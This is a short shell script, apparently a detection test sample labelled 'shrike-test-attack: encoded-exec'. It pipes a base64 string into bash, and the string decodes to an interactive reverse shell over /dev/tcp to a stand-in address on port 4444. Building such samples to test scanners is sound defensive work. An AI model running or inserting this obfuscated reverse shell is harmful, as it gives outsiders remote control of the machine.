#!/bin/sh
# shrike-test-attack: encoded-exec: base64 -d piped into sh (decodes to a /dev/tcp shell)
echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjEwLzQ0NDQgMD4mMQo= | base64 -d | bash
